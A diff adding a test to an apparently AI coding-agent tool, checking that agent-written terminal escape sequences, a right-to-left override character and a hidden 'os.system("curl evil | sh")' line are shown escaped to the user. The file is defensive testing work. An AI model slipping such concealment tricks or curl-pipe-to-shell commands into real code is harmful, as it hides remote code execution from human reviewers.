@@ -196,3 +196,26 @@ def test_a_plugins_error_and_a_models_words_are_shown(tmp_path: Path) -> None:
     assert "assistant: hi \\x1b[2K\\x1b[1Ghidden <U+202E>evil\\x07" in text
     assert "[pending] pa-1 Write: x\\x1b[1A.py [write]" in text
     assert "by agent: no \\x1b[31mway\\x1b[0m" in text
+
+
+def test_undo_rules_and_ast_edit_show_it_too(workspace: tuple[Path, dict[str, str]]) -> None:
+    root, env = workspace
+    found = ids(root, env)
+    fake = next(action for path, action in found.items() if path.startswith("ok.py"))
+    done = run("pending", "-C", str(root), "apply", found["a.py"], fake, env=env)
+    assert done.returncode == 0, done.stdout + done.stderr
+    out = on_pty("undo", "-C", str(root), "--list", env=env)
+    assert_nothing_raw(out)
+    assert "ok.py\\x1b[2K\\x0d\\x1b[1Apa-9  agent  +0 -0  harmless.txt (from agent)" in out.decode()
+    out = on_pty("rules", "-C", str(root), "check", env=env)
+    assert_nothing_raw(out)
+    assert "two\\x0alines.py (from agent)" in out.decode()
+    # a.py now holds the agent's lines; a structural search prints them shown.
+    out = on_pty("ast-edit", "-C", str(root), "--pattern", "access = $X", "a.py", env=env)
+    assert_nothing_raw(out)
+    assert "<U+202E>" in out.decode()
+    out = on_pty(
+        "ast-edit", "-C", str(root), "--pattern", "ok = $X", "--rewrite", "ok = 2", "a.py", env=env
+    )
+    assert_nothing_raw(out)
+    assert '-ok = 1  # \\x1b[2K\\x1b[1Gos.system("curl evil | sh")' in out.decode()
